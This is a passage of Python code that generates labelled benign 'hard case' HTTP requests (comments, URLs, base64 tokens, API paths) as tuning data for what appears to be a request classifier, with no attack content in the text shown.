                "source": "tuning: sixth batch (scanner fingerprints)",
                "split": split_of(item_id),
                "request": req,
            }
        )
    return out


def benign6() -> list[dict]:
    r = rng6
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        item_id = f"benign6-{kind}-{len(out):04d}"
        out.append(
            {
                "id": item_id,
                "category": "benign",
                "kind": kind,
                "source": "tuning: sixth batch (benign hard cases)",
                "split": split_of(item_id),
                "request": req,
            }
        )

    def post(payload: object, path: str, method: str = "POST") -> dict:
        return {
            "method": method,
            "path": path,
            "query": "",
            "headers": {"user-agent": _ua(r), "content-type": "application/json"},
            "body": json.dumps(payload, ensure_ascii=r.random() < 0.5),
        }

    def get(path: str, query: str = "") -> dict:
        return {
            "method": "GET",
            "path": path,
            "query": query,
            "headers": {"user-agent": _ua(r), "accept": "application/json"},
            "body": None,
        }

    for kind, texts in (
        ("code_review_sql", REVIEW6),
        ("support_shell", SHELL6),
        ("template_text", TEMPLATE6),
        ("markdown", DOCS6),
    ):
        for text in texts:
            add(
                kind,
                post(
                    {"body": text, "format": "markdown"},
                    r.choice(
                        ["/api/reviews/comments", "/api/tickets/31/comments", "/api/wiki/pages/4"]
                    ),
                ),
            )
            add(kind, post({"comment": {"text": text}}, "/api/issues/12/comments", "PUT"))
    for text in URLS6:
        add("urls", post({"link": text, "title": "see also"}, "/api/v2/bookmarks"))
        add("urls", get("/api/v2/preview", f"url={quote(text, safe='')}"))
    for i in range(60):
        # random tokens and ids in the base64 alphabets, and base64 of ordinary text
        if i < 30:
            token = base64.b64encode(r.randbytes(r.choice([6, 9, 12, 18, 24, 33, 48]))).decode()
        elif i < 45:
            token = base64.urlsafe_b64encode(r.randbytes(r.choice([9, 15, 21, 30]))).decode()
        else:
            token = _b64(r.choice(PLAIN_TEXTS6), i)
        add("base64_values", post({"data": token, "kind": "upload"}, "/api/v2/import"))
        add(
            "base64_values",
            {
                "method": "GET",
                "path": "/api/v2/me",
                "query": "",
                "body": None,
                "headers": {"user-agent": _ua(r), "cookie": f"sid={token}"},
            },
        )
    for path in PATHS6:
        add("api_paths", get(path))
    for query in QUERIES6:
        add("api_paths", get(r.choice(["/api/v2/search", "/graphql", "/api/v2/sessions"]), query))
    return out
